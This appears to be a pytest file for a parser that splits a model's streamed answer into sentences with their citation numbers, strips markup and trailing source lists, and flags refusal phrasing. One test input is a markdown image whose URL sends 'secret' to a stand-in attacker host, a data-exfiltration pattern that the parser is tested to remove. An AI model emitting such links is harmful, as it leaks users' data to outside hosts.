"""What a model says, cut into sentences with the sources they name, in pieces of any size."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from qa.drafting import Draft, Drafts


def drafted(text: str, size: int = 3) -> list[Draft]:
    drafts = Drafts()
    found: list[Draft] = []
    for start in range(0, len(text), size):
        found += drafts.feed(text[start : start + size])
    return found + list(drafts.close())


CASES = [
    ("Kim met Putin [1].", [("Kim met Putin.", (1,))]),
    ("They met. [2][3] He left.", [("They met.", (2, 3)), ("He left.", ())]),
    (
        "They met.[1] He left soon after it.[2]",
        [("They met.", (1,)), ("He left soon after it.", (2,))],
    ),
    ("He left [2, 3].", [("He left.", (2, 3))]),
    ("He left [1-3].", [("He left.", (1, 2, 3))]),
    ("He left [source 1 and 4].", [("He left.", (1, 4))]),
    ("He left [^2].", [("He left.", (2,))]),
    ("He left【1†source】.", [("He left.", (1,))]),
    ("He came ［2］.", [("He came.", (2,))]),
    ("He came 〔3〕.", [("He came.", (3,))]),
    ("He came (source 2).", [("He came.", (2,))]),
    ("He came (2).", [("He came.", (2,))]),
    # What is no marker stays.
    ("It was founded (in 1987) [1].", [("It was founded (in 1987).", (1,))]),
    ("It was founded ([1], 1987).", [("It was founded (1987).", (1,))]),
    ("It was founded (1987 [2]).", [("It was founded (1987).", (2,))]),
    ("He was elected in [1987].", [("He was elected in [1987].", ())]),
    ("First (1) the talks, then (2) dinner.", [("First (1) the talks, then (2) dinner.", ())]),
    ("The U.S. President met Mr. Kim.", [("The U.S. President met Mr. Kim.", ())]),
    ("It cost $1.5 million [1].", [("It cost $1.5 million.", (1,))]),
    # Form that the page does not show.
    ("- **Kim** came [1].\n- He left [2].", [("Kim came.", (1,)), ("He left.", (2,))]),
    ("## Answer: He left [1].", [("He left.", (1,))]),
    ("See [the page](http://evil.example/x) [1].", [("See the page.", (1,))]),
    ("![x](http://evil.example/?q=secret) He left.", [("He left.", ())]),
    # A bare yes or no cannot be held to a quote.
    ("Yes. He left [1].", [("He left.", (1,))]),
    ("No, he stayed [1].", [("He stayed.", (1,))]),
    ("No one was hurt [1].", [("No one was hurt.", (1,))]),
    # What follows the answer is none of it.
    ("He left [1].\n\nSources:\n[1] The train", [("He left.", (1,))]),
    ("He left [1].\nQuestion: And then?\nAnswer: He came.", [("He left.", (1,))]),
    ("He left [1].<|im_end|>\n<|im_start|>user", [("He left.", (1,))]),
    ("", []),
    ("[1] [2]", []),
    ("\n\n", []),
]


@pytest.mark.parametrize("size", [1, 3, 1000])
@pytest.mark.parametrize(("text", "expected"), CASES, ids=[text for text, _ in CASES])
def test_sentences_and_markers(
    text: str, expected: list[tuple[str, tuple[int, ...]]], size: int
) -> None:
    assert [(draft.text, draft.markers) for draft in drafted(text, size)] == expected


@given(st.text(alphabet="ab [].1(2)\n*-", max_size=80), st.integers(1, 9))
def test_nothing_is_made_up_and_nothing_breaks(text: str, size: int) -> None:
    for draft in drafted(text, size):
        assert set(draft.text.casefold()) <= set(text.casefold()) | {" "}


def test_a_sentence_comes_as_soon_as_the_next_has_begun() -> None:
    drafts = Drafts()
    assert list(drafts.feed("He left on the train [1]. Then ")) == []
    assert [draft.text for draft in drafts.feed("they all went home")] == ["He left on the train."]


def test_words_stay_apart_where_a_piece_ends() -> None:
    drafts = Drafts()
    pieces = ["He left. ", "The train ", "went ", "to ", "the ", "north ", "then. "]
    found = [draft.text for piece in pieces for draft in drafts.feed(piece)]
    assert found + [draft.text for draft in drafts.close()] == [
        "He left.",
        "The train went to the north then.",
    ]


def test_after_the_end_nothing_comes() -> None:
    drafts = Drafts()
    assert [draft.text for draft in drafts.feed("He left.\nSources: [1]")] == ["He left."]
    assert drafts.over
    assert list(drafts.feed("More text. And more of it.")) == list(drafts.close()) == []


@pytest.mark.parametrize(
    ("text", "refuses"),
    [
        ("The articles don't say.", True),
        ("The sources do not mention the price of the train.", True),
        ("The provided text does not contain information about that.", True),
        ("There is no information about his wife in the sources.", True),
        ("I'm unable to answer this.", True),
        ("I cannot find it.", True),
        ("This is not mentioned in the context.", True),
        ("As an AI language model, I have no opinions.", True),
        ("Unfortunately, the evidence is not enough to say.", True),
        ("Kim did not provide weapons.", False),
        ("The train does not run on Sundays.", False),
        ("He said nothing about the talks.", False),
    ],
)
def test_a_refusal_in_whatever_words(text: str, *, refuses: bool) -> None:
    assert Draft(text).refuses is refuses
